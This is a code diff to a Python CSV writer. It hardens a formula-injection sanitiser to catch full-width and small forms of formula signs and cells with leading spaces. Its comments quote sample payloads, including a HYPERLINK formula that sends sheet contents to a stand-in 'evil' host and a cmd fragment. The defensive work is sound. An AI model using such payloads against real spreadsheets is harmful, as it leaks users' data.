@@ -15,6 +15,7 @@ from __future__ import annotations
 import csv
 import json
 import re
+import unicodedata
 from dataclasses import dataclass
 from typing import IO, Any, Callable
 
@@ -204,16 +205,28 @@ class Writer:
 
 
 # A cell starting with one of these is run as a formula by spreadsheets (CSV injection, OWASP):
-# `=HYPERLINK("http://evil/?"&A2, "See source [1]")` in a sentence would leak the sheet.
-_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+# `=HYPERLINK("http://evil/?"&A2, "See source [1]")` in a sentence would leak the sheet. Their
+# full-width and small forms too (`＝HYPERLINK(…)`, `＠SUM(1)`, `﹦5+5`, `＋cmd|…`): spreadsheets
+# fold some of them to ASCII on import. Every character whose compatibility form is one of them.
+_FORMULA_SIGNS = "=+-@"
+_FORMULA_START = frozenset({"\t", "\r", *_FORMULA_SIGNS, *(
+    c for c in map(chr, [*range(0x2070, 0x20A0), *range(0xFE50, 0xFE70), *range(0xFF00, 0xFF60)])
+    if unicodedata.normalize("NFKC", c) in _FORMULA_SIGNS and unicodedata.normalize("NFKC", c)
+)})
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
 
 
 def safe_cell(value: Any) -> Any:
     """A cell that no spreadsheet runs as a formula: OWASP's advice, a leading `'` before a
-    text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return. Plain numbers
-    (`-0.5`) stay numbers."""
-    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
+    text cell that starts with `=`, `+`, `-`, `@` (or a full-width or small form of one), a tab
+    or a carriage return, also after leading spaces (` =1+1`, which spreadsheets trim). Plain
+    numbers (`-0.5`) stay numbers. Every text cell, `doc` and `id` included."""
+    if not isinstance(value, str) or not value:
+        return value
+    first = value[0]
+    if first.isspace() and first not in "\t\r":
+        first = value.lstrip()[:1]
+    if first in _FORMULA_START and not _PLAIN_NUMBER.fullmatch(value):
         return "'" + value
     return value
 
